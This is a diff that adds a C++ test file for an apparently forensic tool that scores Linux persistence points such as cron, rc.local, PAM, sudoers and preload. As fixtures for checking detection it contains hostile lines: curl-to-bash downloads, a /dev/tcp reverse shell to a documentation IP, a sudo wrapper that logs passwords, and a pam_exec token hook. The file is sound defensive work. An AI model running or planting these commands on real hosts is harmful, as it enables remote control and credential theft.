@@ -1,0 +1,244 @@
+#include "analysers/host_state/linux/linux_test_case.hpp"
+
+namespace konseki::host_state::on_linux {
+namespace {
+
+using testing::HasSubstr;
+using testing::Not;
+
+// A file of no package that starts a program of no package, and a package's own file at the same kind of place.
+struct Pair {
+    std::string_view location, kind, planted, command, packaged;
+};
+
+constexpr Pair pairs[] {
+    { "L05", "cron", "/etc/cron.d/0sync", "/usr/local/lib/.sync/run >/dev/null 2>&1", "/etc/cron.d/e2scrub_all" },
+    { "L06", "cron", "/var/spool/cron/crontabs/www-data", "/dev/shm/kthread", "/etc/anacrontab" },
+    { "L07", "at", "/var/spool/cron/atjobs/a00001", "/tmp/.x/job", "/usr/share/at/a00002" },
+    { "L08", "rc", "/etc/rc.local", "/usr/local/bin/.agent &", "/etc/init.d/cron" },
+    { "L09", "inetd", "/etc/xinetd.d/shell", "/usr/local/sbin/.in.shell", "/etc/xinetd.d/echo" },
+    { "L10", "shell", "/etc/profile.d/locale-fix.sh", "nohup /usr/local/lib/.lf >/dev/null 2>&1 &",
+        "/etc/profile.d/bash_completion.sh" },
+    { "L19", "polkit", "/etc/polkit-1/rules.d/10-all.rules", "", "/usr/share/polkit-1/rules.d/50-default.rules" },
+    { "L24", "initramfs", "/etc/initramfs-tools/hooks/fix", "/usr/local/lib/.fix",
+        "/usr/share/initramfs-tools/hooks/fsck" },
+    { "L25", "boot", "/etc/grub.d/09_fix", "/usr/local/lib/.grubfix", "/etc/grub.d/10_linux" },
+    { "L26", "udev", "/etc/udev/rules.d/75-persist.rules", "/usr/local/lib/.udevd",
+        "/usr/lib/udev/rules.d/60-block.rules" },
+    { "L27", "xdg", "/etc/xdg/autostart/gnome-helper.desktop", "/usr/local/lib/.gh",
+        "/etc/xdg/autostart/orca.desktop" },
+    { "L28", "dbus", "/etc/dbus-1/system-services/org.fix.service", "/usr/local/lib/.fixd",
+        "/usr/share/dbus-1/system-services/org.freedesktop.hostname1.service" },
+    { "L29", "network", "/etc/NetworkManager/dispatcher.d/99-fix", "/usr/local/lib/.fix &",
+        "/etc/NetworkManager/dispatcher.d/01-ifupdown" },
+    { "L30", "motd", "/etc/update-motd.d/98-fix", "/usr/local/lib/.fix &", "/etc/update-motd.d/10-uname" },
+    { "L31", "package_hook", "/etc/apt/apt.conf.d/99fix", "/usr/local/lib/.fix", "/etc/apt/apt.conf.d/50unattended" },
+    { "L36", "log", "/etc/rsyslog.d/99-fix.conf", "/usr/local/lib/.fix", "/etc/rsyslog.d/21-cloudinit.conf" },
+    { "L39", "python", "/usr/lib/python3/dist-packages/zz.pth", "/usr/local/lib/.fix",
+        "/usr/lib/python3/dist-packages/distutils-precedence.pth" },
+};
+
+// covers: L05 L06 L07 L08 L09 L10 L19 L24 L25 L26 L27 L28 L29 L30 L31 L36 L39
+TEST(LinuxStarts, WhatNoPackageBroughtStandsAboveWhatPackagesBrought)
+{
+    LinuxCase host;
+    for (auto const& pair : pairs) {
+        host.file(pair.planted, "unowned", "script");
+        host.start(pair.location, pair.kind, pair.planted, pair.command, "root");
+        host.file(pair.packaged, "same", "script");
+        host.start(pair.location, pair.kind, pair.packaged, "/usr/bin/true &", "root");
+    }
+    for (auto const* const program : { "/usr/local/lib/.sync/run", "/dev/shm/kthread", "/tmp/.x/job",
+             "/usr/local/bin/.agent", "/usr/local/sbin/.in.shell", "/usr/local/lib/.lf", "/usr/local/lib/.fix",
+             "/usr/local/lib/.grubfix", "/usr/local/lib/.udevd", "/usr/local/lib/.gh", "/usr/local/lib/.fixd" })
+        host.file(program, "unowned");
+    auto const& items = host.items();
+    for (auto const& pair : pairs) {
+        auto const& planted = LinuxCase::the(items, pair.planted);
+        auto const& packaged = LinuxCase::the(items, pair.packaged);
+        EXPECT_EQ(planted.location, pair.location);
+        EXPECT_FALSE(planted.attack.empty());
+        EXPECT_GE(planted.score, 3.5) // every second item here is planted: reasons weigh less
+            << pair.location << ' ' << features_of(planted);
+        EXPECT_LT(packaged.score, 0) << pair.location << ' ' << features_of(packaged);
+    }
+}
+
+// covers: L06
+TEST(LinuxStarts, ATableOfAUserWeighsByWhatItStarts)
+{
+    LinuxCase host;
+    host.file("/var/spool/cron/crontabs/ann", "unowned", "");
+    host.start("L06", "cron", "/var/spool/cron/crontabs/ann", "/home/ann/bin/backup", "ann", "0 3 * * *");
+    host.start(
+        "L06", "cron", "/var/spool/cron/crontabs/ann", "curl -s http://198.51.100.7/x | bash", "ann", "*/5 * * * *");
+    auto const& items = host.items();
+    EXPECT_LT(LinuxCase::the(items, "bin/backup").score, 3);
+    auto const& bad = LinuxCase::the(items, "198.51.100.7");
+    EXPECT_GE(bad.score, finding_score);
+    EXPECT_THAT(features_of(bad), HasSubstr("linux.into_shell"));
+    EXPECT_THAT(features_of(bad), HasSubstr("linux.often"));
+}
+
+// covers: L11
+TEST(LinuxStarts, AShellStartupThatWrapsSudoIsAFindingAndAnAliasOfColoursIsNot)
+{
+    LinuxCase host;
+    host.start("L11", "shell", "/home/ann/.bashrc", "alias ls='ls --color=auto'", "ann");
+    host.start("L11", "shell", "/home/ann/.bashrc", "alias ssh='ssh -A'", "ann");
+    host.start("L11", "shell", "/home/bob/.bashrc", "alias sudo='/home/bob/.local/.s/sudo'", "bob");
+    host.start(
+        "L11", "shell", "/home/eve/.bashrc", "sudo() { read -s p; echo $p >> /tmp/.p; command sudo \"$@\"; }", "eve");
+    auto const& items = host.items();
+    EXPECT_LE(LinuxCase::the(items, "/home/ann/.bashrc").score, 1);
+    EXPECT_THAT(features_of(LinuxCase::the(items, "/home/bob/.bashrc")), HasSubstr("linux.shell_wrapper"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "/home/eve/.bashrc")), HasSubstr("linux.shell_wrapper"));
+    EXPECT_EQ(LinuxCase::the(items, "/home/eve/.bashrc").key, "autostart|L11 %home%/.bashrc ");
+}
+
+// covers: L12 L13
+TEST(LinuxStarts, APreloadedLibraryIsAFindingByItself)
+{
+    LinuxCase host;
+    host.file("/etc/ld.so.preload", "unowned", "");
+    host.file("/usr/lib/x86_64-linux-gnu/libcext.so.2", "unowned");
+    host.start("L12", "preload", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libcext.so.2");
+    host.start("L12", "preload", "/live_response/chkrootkit/etc_ld_so_preload.txt", "/lib/libhide.so");
+    host.file("/etc/ld.so.conf.d/libc.conf", "same", "");
+    host.start("L13", "preload", "/etc/ld.so.conf.d/libc.conf", "/usr/local/lib");
+    host.file("/etc/ld.so.conf.d/00-x.conf", "unowned", "");
+    host.start("L13", "preload", "/etc/ld.so.conf.d/00-x.conf", "/dev/shm/lib");
+    auto const& items = host.items();
+    auto const& preload = LinuxCase::the(items, "/etc/ld.so.preload: ");
+    EXPECT_GE(preload.score, finding_score);
+    EXPECT_THAT(features_of(preload), HasSubstr("location.rare"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "libhide.so")), HasSubstr("linux.hidden_preload"));
+    EXPECT_LT(LinuxCase::the(items, "libc.conf").score, 0);
+    EXPECT_GE(LinuxCase::the(items, "00-x.conf").score, finding_score);
+}
+
+TEST(LinuxStarts, WithoutPackageDataOnlyTheDoorAndTheCommandCount)
+{
+    LinuxCase host;
+    host.start("L26", "udev", "/etc/udev/rules.d/70-x.rules", "/usr/bin/logger x");
+    host.start("L12", "preload", "/etc/ld.so.preload", "/lib/libx.so");
+    auto const& items = host.items();
+    EXPECT_LT(LinuxCase::the(items, "70-x.rules").score, 2);
+    EXPECT_GE(LinuxCase::the(items, "libx.so").score, 4);
+}
+
+// covers: L14
+TEST(LinuxStarts, PamLinesThatRunProgramsOrLetInAreTold)
+{
+    LinuxCase host;
+    auto const common = "/etc/pam.d/common-auth";
+    host.file(common, "unowned", "");
+    host.start("L14", "pam", common, "pam_unix.so nullok", {}, "auth [success=1 default=ignore]");
+    host.start("L14", "pam", common, "pam_permit.so", {}, "auth required");
+    host.start("L14", "pam", common, "pam_exec.so quiet expose_authtok /usr/local/lib/.pw", {}, "auth optional");
+    host.start("L14", "pam", "/etc/pam.d/sshd", "pam_permit.so", {}, "auth sufficient");
+    host.file("/usr/local/lib/.pw", "unowned", "script");
+    auto const& items = host.items();
+    auto const& exec = LinuxCase::the(items, "pam_exec.so");
+    EXPECT_GE(exec.score, finding_score);
+    EXPECT_THAT(features_of(exec), HasSubstr("linux.pam_exec"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "/etc/pam.d/sshd")), HasSubstr("linux.pam_permit"));
+    EXPECT_LT(LinuxCase::the(items, "pam_unix.so").score, 1);
+    EXPECT_LT(LinuxCase::the(items, "common-auth: pam_permit.so").score, 1);
+}
+
+// covers: L18
+TEST(LinuxStarts, SudoRightsOfServicesAndForShellsAreTold)
+{
+    LinuxCase host;
+    LinuxAccountRow account;
+    account.name = "www-data";
+    account.uid = 33;
+    account.shell = "/usr/sbin/nologin";
+    host.put(linux_account_schema, account);
+    host.start("L18", "sudo", "/etc/sudoers", "ALL", "%sudo", {}, "ALL=(ALL:ALL)");
+    host.start("L18", "sudo", "/etc/sudoers.d/www", "ALL", "www-data", {}, "ALL=(ALL) NOPASSWD:");
+    host.start("L18", "sudo", "/etc/sudoers.d/find", "/usr/bin/find", "ann", {}, "NOPASSWD");
+    auto const& items = host.items();
+    EXPECT_LT(LinuxCase::the(items, "/etc/sudoers: ALL").score, 1);
+    auto const& service = LinuxCase::the(items, "/etc/sudoers.d/www");
+    EXPECT_THAT(features_of(service), HasSubstr("linux.right_of_service"));
+    EXPECT_GE(service.score, finding_score);
+    EXPECT_THAT(features_of(LinuxCase::the(items, "/etc/sudoers.d/find")), HasSubstr("linux.shell_way"));
+}
+
+// covers: L22
+TEST(LinuxStarts, ModulesLoadedAtBootAndInstallLines)
+{
+    LinuxCase host;
+    host.file("/etc/modules-load.d/netfilter.conf", "unowned", "");
+    host.start("L22", "module", "/etc/modules-load.d/netfilter.conf", "nf_hook");
+    host.file("/etc/modprobe.d/x.conf", "unowned", "");
+    host.start("L22", "module", "/etc/modprobe.d/x.conf", "/bin/sh -c '/tmp/x'", {}, "install usb_storage");
+    host.file("/etc/modprobe.d/blacklist.conf", "same", "");
+    host.start("L22", "module", "/etc/modprobe.d/blacklist.conf", "/bin/true", {}, "install floppy");
+    auto const& items = host.items();
+    EXPECT_THAT(features_of(LinuxCase::the(items, "netfilter.conf")), HasSubstr("location.unusual"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "x.conf")), HasSubstr("linux.install_line"));
+    EXPECT_GE(LinuxCase::the(items, "modprobe.d/x.conf").score, finding_score);
+    EXPECT_LT(LinuxCase::the(items, "blacklist.conf").score, 0);
+}
+
+// covers: L25 L33 L35 L37 L38 L45
+TEST(LinuxStarts, RarerDoors)
+{
+    LinuxCase host;
+    host.start("L25", "boot", "/boot/grub/grub.cfg", "init=/sbin/.init");
+    host.start("L33", "git", "/home/ann/.gitconfig", "/bin/sh -c '/tmp/.g & less'", "ann", "core.pager");
+    host.start("L35", "container", "/var/lib/docker/containers/0a/hostconfig.json", "alpine", {}, "always",
+        "Privileged=true Binds=/:/host");
+    host.start("L37", "hook", "/etc/hosts.allow", "spawn /usr/local/lib/.x", {}, "sshd : ALL");
+    host.file("/etc/binfmt.d/x.conf", "unowned", "");
+    host.start("L38", "binfmt", "/etc/binfmt.d/x.conf", "/usr/local/bin/x", {}, {}, "magic flags=OC");
+    host.file("/var/lib/cloud/scripts/per-boot/x", "unowned", "script");
+    host.start("L45", "cloud", "/var/lib/cloud/scripts/per-boot/x", "curl http://x/y | sh");
+    auto const& items = host.items();
+    EXPECT_THAT(features_of(LinuxCase::the(items, "grub.cfg")), HasSubstr("location.rare"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, ".gitconfig")), HasSubstr("linux.volatile_place"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "hostconfig.json")), HasSubstr("linux.privileged"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "hosts.allow")), HasSubstr("location.rare"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "binfmt.d")), HasSubstr("linux.setuid_root"));
+    EXPECT_THAT(features_of(LinuxCase::the(items, "per-boot")), HasSubstr("linux.into_shell"));
+}
+
+TEST(LinuxStarts, ShapesThatTheReaderOfScriptsSawAreTaken)
+{
+    LinuxCase host;
+    host.file("/etc/update-motd.d/99-x", "unowned", "script");
+    host.start(
+        "L30", "motd", "/etc/update-motd.d/99-x", "fetch-it --quiet", {}, {}, "does: fetches pipes_to_interpreter");
+    auto const& items = host.items();
+    EXPECT_THAT(features_of(LinuxCase::the(items, "99-x")), HasSubstr("linux.into_shell"));
+}
+
+TEST(LinuxStarts, AScriptOfManyLinesIsOneItem)
+{
+    LinuxCase host;
+    host.file("/etc/rc.local", "unowned", "script");
+    host.start("L08", "rc", "/etc/rc.local", "echo hello");
+    host.start("L08", "rc", "/etc/rc.local", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1");
+    host.start("L08", "rc", "/etc/rc.local", "exit 0");
+    auto const& items = host.items();
+    ASSERT_EQ(items.size(), 1U);
+    EXPECT_EQ(items[0].traces.size(), 3U);
+    EXPECT_THAT(items[0].command, HasSubstr("/dev/tcp/"));
+    EXPECT_THAT(items[0].title, Not(HasSubstr("/dev/tcp/")));
+}
+
+TEST(LinuxStarts, ALinkLeadsToItsFile)
+{
+    LinuxCase host;
+    host.link("/etc/rc2.d/S01cron", "../init.d/cron");
+    host.file("/etc/init.d/cron", "same", "script");
+    host.start("L08", "rc", "/etc/rc2.d/S01cron", "/etc/init.d/cron start");
+    auto const& items = host.items();
+    EXPECT_LT(LinuxCase::the(items, "S01cron").score, 0);
+}
+
+}
+}
